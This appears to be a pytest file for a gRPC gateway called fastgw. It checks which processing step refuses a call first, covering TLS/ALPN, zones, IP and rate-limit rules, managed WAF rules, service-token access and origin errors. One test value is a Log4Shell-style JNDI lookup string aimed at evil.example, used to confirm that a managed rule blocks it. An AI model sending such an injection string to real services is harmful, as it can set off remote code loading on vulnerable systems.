"""The way of a request, step by step: who offends two steps is told of the first.

Each offence is a few keys of the configuration and a few words of the call. grpcio makes the calls, but
where it cannot offend: those are made of raw frames.
"""

from __future__ import annotations

import json
import ssl
from dataclasses import dataclass, field

import grpc
import pytest

from fastgw.access import tokens
from tests.support import frames
from tests.support.calls import Refused, eventually, record, toml
from tests.support.frames import Code
from tests.support.grpc_echo import Echo
from tests.support.raw import ClosedError, RawClient, h2_context
from tests.support.raw_origin import RawOrigin

UNARY = b"/fastgw.test.Echo/Unary"
ROBOT = tokens.create("robot", None)
SHOWN = (("cf-access-client-id", ROBOT.client_id), ("cf-access-client-secret", ROBOT.secret))
JUNK = ("x-note", "${jndi:ldap://evil.example/a}")


@dataclass(frozen=True)
class Offence:
    """What offends a step, and what is to be seen then.

    server, settings, keys, tables  lines of [server], settings and keys of the zone, and tables of it
    call  attributes of the Call that offend
    port, resets  the origin is there, and it resets each call
    http  what is to be seen if it is not gRPC
    raw   grpcio cannot offend so
    """

    step: str
    seen: str
    server: str = ""
    settings: dict[str, str] = field(default_factory=dict)
    keys: str = ""
    tables: str = ""
    call: dict[str, object] = field(default_factory=dict)
    port: int = 0
    resets: bool = False
    http: str = ""
    raw: bool = False


@dataclass
class Call:
    """How a client calls."""

    alpn: tuple[str, ...] = ("h2",)
    authority: str = "gw.test"
    content_type: bytes = b"application/grpc"
    metadata: tuple[tuple[str, str], ...] = ()
    times: int = 1


def rule(phase: str, action: str, more: str = "") -> str:
    return (
        f'[[zone.rule]]\nphase = "{phase}"\nid = "{phase}-rule"\n'
        f"expression = 'grpc.method eq \"Unary\"'\n{action}\n{more}\n"
    )


def access(decision: str, include: str) -> str:
    return (
        f'[zone.access]\n[[zone.access.service_tokens]]\nid = "{ROBOT.client_id}"\nname = "robot"\n'
        f'secret_sha256 = "{ROBOT.table["secret_sha256"]}"\n'
        f'[[zone.access.service_tokens]]\nid = "other.access"\nname = "other"\nsecret_sha256 = "{"0" * 64}"\n'
        '[[zone.access.applications]]\nname = "echo"\npath = "/fastgw.test.Echo"\n'
        f'policies = [{{ name = "some", decision = "{decision}", include = [{{ {include} }}] }}]\n'
    )


def refused_by(reply: str, words: str) -> str:
    """What is seen of a rule's denial; * stands for its id."""
    return f"{reply}; {GATE}; rule=*: {words}"


GATE = "side=gateway; phase=policy"
DEAD, DEAF = 9, 10  # ports where nobody listens
OFFENCES = {
    "accept": Offence("1", "closed", server='proxy_protocol = ["127.0.0.0/8"]', raw=True),
    "alpn": Offence("2", "alert", call={"alpn": ("http/1.1",)}, raw=True),
    "malformed": Offence("3", "reset PROTOCOL_ERROR", call={"metadata": (("X-Large", "1"),)}, raw=True),
    "zone": Offence(
        "4",
        f"UNIMPLEMENTED zone_unknown; {GATE}: no zone serves the hostname nobody.gw.test",
        call={"authority": "nobody.gw.test"},
        http=f"404 zone_unknown; {GATE}: ",
    ),
    "DNS-only": Offence(
        "4",
        f"UNIMPLEMENTED zone_unknown; {GATE}: the record of bare.gw.test is DNS-only: set proxied = true",
        call={"authority": "bare.gw.test"},
        http=f"404 zone_unknown; {GATE}: ",
    ),
    "misdirected": Offence(
        "4",
        f"UNIMPLEMENTED misdirected; {GATE}: this connection's certificate does not cover other.test",
        call={"authority": "other.test"},
        http=f"421 misdirected; {GATE}: ",
        raw=True,
    ),
    "kind": Offence("5", f"403 http_disabled; {GATE}", call={"content_type": b"application/json"}, raw=True),
    "switch": Offence(
        "6",
        f"PERMISSION_DENIED grpc_disabled; {GATE}: "
        "gRPC is switched off for zone gw.test: its setting grpc is off",
        settings={"grpc": "off"},
    ),
    "mode": Offence(
        "7",
        f"FAILED_PRECONDITION ssl_mode_insufficient; {GATE}: "
        "zone gw.test: gRPC needs the setting ssl to be full or strict",
        settings={"ssl": "off", "grpc": "off"},
    ),
    "ip access": Offence(
        "8",
        refused_by("PERMISSION_DENIED rule_blocked", "zone gw.test: IP access rule"),
        keys='ip_access = [{ value = "127.0.0.1", mode = "block" }]',
    ),
    "lockdown": Offence(
        "8",
        refused_by("PERMISSION_DENIED rule_blocked", "zone gw.test: zone lockdown"),
        tables='[[zone.lockdown]]\ndescription = "inside"\nurls = ["gw.test/*"]\n'
        'configurations = ["192.0.2.1"]\n',
    ),
    "user agent": Offence(
        "8",
        refused_by("PERMISSION_DENIED rule_blocked", "zone gw.test: user agent rule"),
        keys='user_agent = [{ value = "grpc-python*" }]',
    ),
    "custom": Offence(
        "8",
        refused_by(
            "PERMISSION_DENIED rule_blocked", "zone gw.test: custom rule custom-rule blocks this call"
        ),
        tables=rule("custom", 'action = "block"'),
    ),
    "rate limit": Offence(
        "8",
        refused_by(
            "RESOURCE_EXHAUSTED rate_limited",
            "zone gw.test: rate limit ratelimit-rule admits no more of these calls for ",
        ),
        tables=rule(
            "ratelimit",
            'action = "block"',
            'ratelimit = { characteristics = ["ip.src"], period = 60, requests_per_period = 1 }',
        ),
        call={"times": 2},
    ),
    "managed": Offence(
        "8",
        refused_by("PERMISSION_DENIED rule_blocked", "zone gw.test: managed rule injection-jndi"),
        tables="[zone.managed]\nenabled = true\n",
        call={"metadata": (JUNK,)},
    ),
    "access 401": Offence(
        "9",
        f"UNAUTHENTICATED access_unauthenticated; {GATE}: zone gw.test: application echo asks who calls",
        tables=access("service_auth", "any_valid_service_token = true"),
    ),
    "access 403": Offence(
        "9",
        f"PERMISSION_DENIED access_denied; {GATE}: zone gw.test: application echo: no policy admits",
        tables=access("service_auth", 'service_token = ["other"]'),
        call={"metadata": SHOWN},
    ),
    "route": Offence(
        "10",
        f"UNAVAILABLE origin_refused; side=origin; phase=connect; endpoint=127.0.0.1:{DEAD}; attempt=1: "
        f"origin 127.0.0.1:{DEAD}: ",
        tables=rule("origin", f"route = {{ port = {DEAD} }}"),
    ),
    "origin": Offence(
        "10",
        f"UNAVAILABLE origin_refused; side=origin; phase=connect; endpoint=127.0.0.1:{DEAF}; attempt=1: "
        f"origin 127.0.0.1:{DEAF}: ",
        port=DEAF,
    ),
    "stream": Offence("11", "RESOURCE_EXHAUSTED origin_reset; side=origin; phase=stream", resets=True),
}

# Each step and the one behind it; those of step 8 in the order of their phases. 4 and 9 have several doors.
ORDER = (
    ("accept", "alpn"),
    ("alpn", "malformed"),
    ("malformed", "zone"),
    ("malformed", "misdirected"),
    ("zone", "kind"),
    ("DNS-only", "kind"),
    ("misdirected", "kind"),
    ("kind", "switch"),
    ("switch", "mode"),
    ("mode", "ip access"),
    ("ip access", "lockdown"),
    ("lockdown", "user agent"),
    ("user agent", "custom"),
    ("custom", "rate limit"),
    ("rate limit", "managed"),
    ("managed", "access 401"),
    ("managed", "access 403"),
    ("access 401", "route"),
    ("access 403", "route"),
    ("route", "origin"),
    ("origin", "stream"),
)


def play(peer):
    """Every call is told to be calm."""
    peer.begin()
    for stream_id, _ in peer.requests():
        peer.send(frames.rst_stream(stream_id, Code.ENHANCE_YOUR_CALM))


@pytest.fixture
def calm(origin_leaf):
    with RawOrigin(play, origin_leaf) as started:
        yield started


def written(offences: list[Offence], port: int, folder) -> str:
    """The configuration with what these offences need."""
    settings: dict[str, str] = {}
    for one in offences:
        settings |= one.settings
    bare = '{ name = "bare", content = "127.0.0.1" }'
    text = toml(
        record("@", port),
        bare,
        server="\n        ".join(one.server for one in offences if one.server),
        grpc=settings.get("grpc", "on"),
    )
    text = text.replace('ssl = "strict"', f'ssl = "{settings.get("ssl", "strict")}"')
    # What may not be written for a zone that serves is found at run time in one that is paused.
    if settings.get("ssl") == "off" and OFFENCES["switch"] not in offences:
        text += "paused = true\n"
    text += "".join(f"{one.keys}\n" for one in offences if one.keys)
    text += "".join(one.tables for one in offences)
    text += '[[zone]]\nname = "other.test"\ncert = { file = "{cert2}", key = "{key2}" }\n'
    text += f'settings = {{ grpc = "on", ssl = "strict" }}\ndns = [{record("@", port)}]\n'
    return text + f'[log]\naccess = "{folder}/access.log"\n[limits]\nhandshake_timeout = "500ms"\n'


@pytest.fixture
def asked(gateway, ca, origin, calm, tmp_path, open_channel):
    """`asked(*names)`: what a client is told whose call offends so."""
    other = ca.leaf("other.test", file="other")

    def ask(*names: str) -> str:
        offences = [OFFENCES[name] for name in names]
        port = next((one.port for one in offences if one.port), 0)
        port = port or (calm if any(one.resets for one in offences) else origin).port
        text = written(offences, port, tmp_path)
        for word, path in (("cert2", other.certificate), ("key2", other.key)):
            text = text.replace(f"{{{word}}}", str(path))
        house = gateway(toml=text)
        call = Call()
        for one in offences:
            for name, value in one.call.items():
                metadata = (*call.metadata, *value) if name == "metadata" else value
                setattr(call, name, metadata)
        if any(one.raw for one in offences):
            return by_raw(house, call)
        said = ""
        for _ in range(call.times):
            said = by_grpcio(open_channel(house.address, name=call.authority), call)
        return said

    return ask


def by_grpcio(channel: grpc.Channel, call: Call) -> str:
    try:
        assert Echo(channel).unary(b"x", metadata=list(call.metadata), timeout=5) == b"x"
    except grpc.RpcError as error:
        own = dict(error.trailing_metadata() or ()).get("fastgw-error", "")
        return f"{error.code().name} {own}: {error.details()}"
    return "OK"


def by_raw(house, call: Call) -> str:
    context = h2_context(house.ca.file, call.alpn)
    try:
        with RawClient(house.address, context=context, server_name="gw.test") as client:
            client.begin()
            fields = dict(frames.request(UNARY, call.authority.encode()))
            fields[b"content-type"] = call.content_type
            more = [(name.encode(), value.encode()) for name, value in call.metadata]
            client.head(1, [*fields.items(), (b"user-agent", b"grpc-python/1"), *more], end=True)
            answer = client.answer(1)
    except (ClosedError, ConnectionError, ssl.SSLEOFError):
        return "closed"
    except ssl.SSLError as error:
        return "alert" if error.reason is None else f"TLS: {error.reason}"  # Python has no word for this one
    if answer.reset is not None:
        return f"reset {answer.reset.name}"
    head = {name.decode(): value.decode() for name, value in answer.head.items()}
    own = head.get("fastgw-error", "")
    if head[":status"] != "200":
        return f"{head[':status']} {own}: {answer.body.decode()}"
    code = next(one.name for one in grpc.StatusCode if one.value[0] == int(head["grpc-status"]))
    return f"{code} {own}: {head['grpc-message']}"


def is_seen(said: str, *names: str) -> bool:
    """Is it what the first of these offences brings?"""
    one = OFFENCES[names[0]]
    wanted = one.http if "kind" in names and one.http else one.seen
    before, _, behind = wanted.partition("*")
    return said.startswith(before) and behind in said


@pytest.mark.parametrize("name", OFFENCES)
def test_each_step(asked, origin, name):
    said = asked(name)
    assert is_seen(said, name), said
    assert origin.calls == (name == "rate limit")


@pytest.mark.parametrize(("first", "second"), ORDER, ids=[" before ".join(pair) for pair in ORDER])
def test_the_order(asked, first, second):
    said = asked(first, second)
    assert is_seen(said, first, second), said
    said = asked(second)
    assert is_seen(said, second), said


def test_the_order_is_whole():
    assert {name for pair in ORDER for name in pair} == set(OFFENCES)
    assert all(int(OFFENCES[second].step) - int(OFFENCES[first].step) in (0, 1) for first, second in ORDER)
    assert {int(one.step) for one in OFFENCES.values()} == set(range(1, 12))


def test_connections_are_limited_before_anything_is_said(gateway, origin):
    """Step 1: the second connection of a worker that may have one is closed without a handshake."""
    text = toml(record("@", origin.port)) + "[limits]\nconnections = 1\n"
    house = gateway(toml=text)
    with house.raw() as first:
        first.begin()
        with pytest.raises((ConnectionError, ssl.SSLError, ClosedError)), house.raw() as second:
            second.begin()
        first.expect_alive()
    assert house.gateway.stats()["total"]["connections_refused"] == 1


def test_what_is_changed_is_changed_for_callers_that_are_let_in(gateway, origin, open_channel):
    """Transforms are behind Access: the origin sees them of calls that pass, without the secret."""
    more = access("service_auth", "any_valid_service_token = true")
    more += rule("transform", 'headers."x-set" = { operation = "set", value = "new" }')
    house = gateway(toml=toml(record("@", origin.port)) + more)
    client = Echo(open_channel(house.address))
    assert Refused(lambda: client.unary(b"x", timeout=5)).code is grpc.StatusCode.UNAUTHENTICATED
    assert origin.calls == 0
    assert client.unary(b"x", metadata=list(SHOWN), timeout=5) == b"x"
    seen = dict(origin.metadata)
    assert seen["x-set"] == "new"
    assert not {"cf-access-client-id", "cf-access-client-secret"} & set(seen)


def test_each_end_is_counted_and_logged(gateway, origin, open_channel, tmp_path):
    """Step 12: of a call that passes and one that does not, the figures and a line each."""
    more = rule("custom", 'action = "block"') + f'[log]\naccess = "{tmp_path}/access.log"\n'
    house = gateway(toml=toml(record("@", origin.port)) + more)
    client = Echo(open_channel(house.address))
    assert Refused(lambda: client.unary(b"x", timeout=5)).code is grpc.StatusCode.PERMISSION_DENIED
    assert list(client.chat(iter([b"x"] * 3), timeout=5)) == [b"x"] * 3
    total = eventually(lambda: (t := house.gateway.stats()["total"])["exchanges_finished"] == 2 and t)
    assert total["replies"] == {"rule_blocked": 1}
    log = tmp_path / "access.log"
    eventually(lambda: log.exists() and len(log.read_text().splitlines()) == 2)
    rows = {row["path"]: row for row in map(json.loads, log.read_text().splitlines())}
    denied, passed = rows[UNARY.decode()], rows["/fastgw.test.Echo/Chat"]
    for name, a, b in (
        ("grpc_status", 7, 0),
        ("error", "rule_blocked", ""),
        ("rule", "custom-rule", ""),
        ("side", "gateway", ""),
        ("phase", "policy", ""),
        ("attempts", 0, 1),
        ("request_messages", 0, 3),
        ("response_messages", 0, 3),
    ):
        assert (denied[name], passed[name]) == (a, b), name
